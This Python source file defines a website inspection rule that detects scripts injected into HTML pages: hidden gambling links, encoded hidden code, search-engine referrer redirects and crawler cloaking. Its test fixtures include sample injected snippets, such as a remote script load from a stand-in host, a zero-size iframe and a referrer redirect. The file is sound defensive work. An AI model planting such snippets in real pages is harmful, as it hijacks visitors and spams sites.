"""Scripts of the page that write hidden links, hide their own text, or lead visitors of search engines elsewhere."""

from __future__ import annotations

import base64
import binascii
import re
from collections.abc import Iterator
from urllib.parse import unquote

from qa.document import Document
from qa.finding import Confidence, Level, Pass
from qa.patterns import lazy
from qa.rule import Bad, Hit, Settings, rule
from qa.source import Span
from rules._standards import INSPECTION
from rules.links._dark import foreign, hides, outside_host, own_hosts
from rules.links._illicit import illicit, illicit_host

_MOST = 20
_LONGEST = 200_000
"""Characters of one script that are looked at; longer ones are libraries."""
_SIGNS = (
    "document.write", "innerHTML", "insertAdjacentHTML", "fromCharCode", "unescape(", "atob(", "eval(", "\\x",
    "referrer", "pider", "\\u", ".append(", ".html(",
)  # fmt: skip
_WRITES = lazy(
    r"document\s*\.\s*write(?:ln)?\s*\(|innerHTML\s*\+?=|insertAdjacentHTML\s*\(|\.(?:append|html)\s*\("
)
_STYLES = lazy(r"""\bstyle\s*=\s*\\?["']?([^"'<>\\]{3,300})""", re.IGNORECASE)
_ANCHOR = lazy(
    r"""<a\b[^<>]{0,300}?\bhref\s*=\s*\\?["']?([^"'\s<>\\]{1,300})[^<>]{0,300}>([^<]{0,100})""", re.IGNORECASE
)
_FLAT = lazy(
    r"""<(?:marquee|iframe)\b[^<>]{0,300}?\b(?:height|width)\s*=\s*\\?["']?[0-2](?!\d)""", re.IGNORECASE
)
_FRAME = lazy(r"<iframe\b[^<>]{0,600}>", re.IGNORECASE)
_CODES = lazy(
    r"fromCharCode\s*\(\s*((?:(?:0x[0-9a-f]{1,5}|\d{1,6})\s*,\s*){3,}(?:0x[0-9a-f]{1,5}|\d{1,6}))\s*\)",
    re.IGNORECASE,
)
_BYTES = lazy(r"(?:\\x[0-9a-fA-F]{2}){4,}")
_UNITS = lazy(r"(?:\\u[0-9a-fA-F]{4}){2,}")
_ESCAPED = lazy(r"""unescape\s*\(\s*(?:"([^"]{6,20000})"|'([^']{6,20000})')\s*\)""")
_BASE64 = lazy(r"""atob\s*\(\s*["']([A-Za-z0-9+/=]{12,20000})["']\s*\)""")
_PACKED = lazy(r"eval\s*\(\s*function\s*\(\s*p\s*,\s*a\s*,\s*c\s*,\s*k\s*,\s*e\s*,\s*[dr]\s*\)")
_RUNS = lazy(r"https?://|<script|<iframe|<a\s|location|document|window", re.IGNORECASE)
_ADDRESS = lazy(r"https?://[^\s\"'<>\\)]{4,300}", re.IGNORECASE)
_ENGINES = lazy(r"baidu|sogou|haosou|so\.com|soso|sm\.cn|google|bing|yahoo|toutiao", re.IGNORECASE)
_SPIDERS = lazy(
    r"(?:baidu|sogou|360|yisou|haosou|google|bing|byte)\w{0,10}\s*(?:spider|bot)|(?<!\w)spider(?!\w)",
    re.IGNORECASE,
)
_LEADS = lazy(r"location(?:\s*\.\s*(?:href|replace|assign))?\s*(?:=(?!=)|\()")
_ACTS = lazy(
    r"location(?:\s*\.\s*(?:href|replace|assign))?\s*(?:=(?!=)|\()|document\s*\.\s*(?:title\s*=(?!=)|write)|innerHTML\s*="
)


def _scripts(text: str) -> Iterator[Span]:
    """Ranges of what stands inside scripts."""
    if "SCRIPT" in text:
        text = text.replace("<SCRIPT", "<script").replace("</SCRIPT", "</script")
    end = 0
    while (at := text.find("<script", end)) >= 0:
        low = text.find(">", at) + 1
        end = text.find("</script", low) if low else -1
        if end < 0:
            end = len(text)
        if low and end - low > 8:
            yield Span(low, min(end, low + _LONGEST))


def _from_codes(codes: str) -> str:
    numbers = (
        int(code, 16) if code.lower().startswith("0x") else int(code) for code in re.split(r"\s*,\s*", codes)
    )
    return "".join(chr(number) for number in numbers if number < 0x110000)


def _from_base64(text: str) -> str:
    try:
        return base64.b64decode(text + "=" * (-len(text) % 4)).decode("utf-8", "replace")
    except (binascii.Error, ValueError):
        return ""


def _decoded(body: str) -> Iterator[tuple[int, int, str, str]]:
    """What a script hides in codes: range, text, Chinese name of the code."""
    for match in _CODES.finditer(body):
        yield *match.span(), _from_codes(match.group(1)), "字符编码"
    for match in _BYTES.finditer(body):
        yield (
            *match.span(),
            bytes.fromhex(match.group().replace("\\x", "")).decode("utf-8", "replace"),
            "十六进制编码",
        )
    for match in _UNITS.finditer(body):
        units = bytes.fromhex(match.group().replace("\\u", ""))
        yield *match.span(), units.decode("utf-16-be", "replace"), "\\u 编码"
    for match in _ESCAPED.finditer(body):
        yield (
            *match.span(),
            unquote(
                re.sub(
                    r"%u([0-9a-fA-F]{4})",
                    lambda unit: chr(int(unit[1], 16)),
                    match.group(1) or match.group(2),
                )
            ),
            "百分号编码",
        )
    for match in _BASE64.finditer(body):
        yield *match.span(), _from_base64(match.group(1)), "Base64 编码"


def _written(body: str, own: tuple[str, ...]) -> Iterator[tuple[int, int, str, Level]]:
    """Links and hidden frames in strings a script writes into the page."""
    if _WRITES.search(body) is None:
        return
    hidden = _FLAT.search(body) is not None or any(
        hides(style) is not None for style in _STYLES.findall(body)
    )
    for match in _ANCHOR.finditer(body):
        host = outside_host(match.group(1))
        found = illicit(match.group(2), suspect=hidden)
        if found is not None or illicit_host(host):
            what = f"含“{found.word}”" if found is not None else f"指向 {host}"
            yield *match.span(), f"脚本写出的链接{what}，疑为植入的暗链", Level.VETO
        elif hidden and foreign(host, own):
            yield *match.span(), "脚本写出读者看不见的外站链接，疑为植入的暗链", Level.ERROR
    for match in _FRAME.finditer(body):
        tag = match.group()
        address = _ADDRESS.search(tag)
        host = outside_host(address.group()) if address else ""
        if foreign(host, own) and (
            _FLAT.match(tag) or any(hides(style) is not None for style in _STYLES.findall(tag))
        ):
            yield *match.span(), f"脚本写出看不见的外站框架（{host}），疑为植入", Level.ERROR


def _hidden_in_code(body: str, own: tuple[str, ...]) -> Iterator[tuple[int, int, str, Level]]:
    runs = (
        "eval(" in body
        or "Function(" in body
        or "document.write" in body
        or '["\\x' in body
        or "['\\x" in body
    )
    for low, high, text, name in _decoded(body):
        found = illicit(text[:2000])
        hosts = [outside_host(address) for address in _ADDRESS.findall(text)]
        if found is not None:
            yield low, high, f"脚本用{name}藏着“{found.word}”，疑为植入的{found.topic}内容", Level.VETO
        elif any(illicit_host(host) for host in hosts):
            yield low, high, f"脚本用{name}藏着可疑网址，疑为植入", Level.VETO
        elif name == "\\u 编码" or not _RUNS.search(text):
            continue
        elif any(foreign(host, own) for host in hosts) or (runs and not hosts):
            yield low, high, f"脚本用{name}藏着代码“{text.strip()[:40]}”，请核查是否被植入", Level.ERROR


def _leading(body: str) -> Iterator[tuple[int, int, str, Level]]:
    """Scripts that treat visitors of search engines, or their spiders, in a way of their own."""
    if len(body) > 20_000:
        return
    if "referrer" in body and _ENGINES.search(body) and (match := _LEADS.search(body)):
        yield *match.span(), "脚本把从搜索引擎来的读者带到别处，疑为植入的跳转", Level.ERROR
    elif (spider := _SPIDERS.search(body)) and (match := _ACTS.search(body)):
        yield *spider.span(), "脚本对搜索引擎另做一套内容，疑为植入", Level.ERROR


@rule(
    title="脚本植入暗链或隐藏代码",
    level=Level.VETO,
    passes=Pass.REVIEW2,
    basis=INSPECTION["单项否决·安全、泄密事故等严重问题"],
    score_item="VETO-SEC-4",
    confidence=Confidence.MEDIUM,
    media=("html",),
    bad=(
        Bad("""<script>document.write('⟦<a href="http://a.example.com/">百家乐⟧</a>');</script>"""),
        Bad(
            """<script>document.writeln("<div style='display:none;position:absolute;left:-999px'>⟦<a href='http://a.example.com/'>某网⟧</a></div>")</script>"""
        ),
        Bad(
            """<script>box.innerHTML = "<a href='x'>正常</a>⟦<a href='http://www.bet365.example.com/'>首页⟧</a>";</script>"""
        ),
        Bad(
            "<script>eval(String.⟦fromCharCode(100,111,99,117,109,101,110,116,46,119,114,105,116,101)⟧)</script>"
        ),
        Bad("<SCRIPT>var t=String.⟦fromCharCode(0x767e, 0x5bb6, 0x4e50, 0x3002)⟧</SCRIPT>"),
        Bad(
            r"""<script>window["⟦\x64\x6f\x63\x75\x6d\x65\x6e\x74⟧"]["⟦\x77\x72\x69\x74\x65\x64\x6f\x63\x75\x6d\x65\x6e\x74⟧"]("x")</script>"""
        ),
        Bad(r"""<script>var w = "⟦\u767e\u5bb6\u4e50⟧";</script>"""),
        Bad(
            """<script>document.write(⟦unescape("%3Cscript src='http://a.example.com/x.js'%3E")⟧)</script>"""
        ),
        Bad("""<script>var u = ⟦atob("aHR0cDovL3d3dy54dmlkZW9zLmV4YW1wbGUuY29tLw==")⟧;</script>"""),
        Bad(
            """<script>if(document.referrer.indexOf('baidu')>0){⟦location.href=⟧'http://a.example.com/'}</script>"""
        ),
        Bad("""<script>if(/⟦Baiduspider⟧/i.test(navigator.userAgent)){document.title='x'}</script>"""),
        Bad(
            """<script>document.write("⟦<iframe src='http://a.example.com/' width=0 height=0>⟧</iframe>")</script>"""
        ),
        Bad("<script>⟦eval(function(p,a,c,k,e,d)⟧{return p}('0',1,1,''.split('|'),0,{}))</script>"),
    ),
    good=(
        """<script>document.write('<a href="/a.html">正常</a>');</script><script src="a.js"></script>""",
        """<script>document.write('<div style="display:none"><a href="https://weibo.com/">微博</a></div>');</script>""",
        """<script>document.write(unescape("%3Cscript src='https://hm.baidu.com/h.js' type='text/javascript'%3E"));</script>""",
        "<script>var s=String.fromCharCode(65,66,67,68,69);</script>",
        r"""<script>var re=/[\x00-\x1f]/, title="\u9996\u9875";</script>""",
        """<script>var u = atob("5pS/5Yqh5YWs5byA5bmz5Y+w5qyi6L+O5oKo");var v = atob("AAAAAAAAAAAAA");</script>""",
        "<script>if(document.referrer==''){history.back()}</script><script>x</script>",
        "<script>eval('(' + text + ')')</script>",
        "<p>document.write('百家乐')</p>",
    ),
)
def injected_script(document: Document, settings: Settings) -> Iterator[Hit]:
    """网页被入侵后，暗链和跳转常藏在脚本里：写出看不见的链接，把网址编成乱码，只把从搜索引擎来的读者带走。

    写出或藏着赌博、色情内容的一票否决，其他可疑写法作错误或警告，请对照服务器上的原文件核查。
    常用统计代码、写出本站和政府网站链接的不报。
    """
    own: tuple[str, ...] | None = None
    count = 0
    text = document.source.text
    for span in _scripts(text):
        body = text[span.start : span.end]
        if not any(sign in body for sign in _SIGNS):
            continue
        own = own_hosts(document, settings) if own is None else own
        packed = (
            (*match.span(), "脚本经过打包，看不出做什么，请核查来源", Level.WARNING)
            for match in _PACKED.finditer(body)
        )
        for found in (_written(body, own), _hidden_in_code(body, own), _leading(body), packed):
            for low, high, message, level in found:
                count += 1
                if count > _MOST:
                    return
                yield Hit(
                    Span(0, 0),
                    message,
                    level=level,
                    source=Span(span.start + low, span.start + high),
                    quote=" ".join(body[low:high].split())[:80],
                )
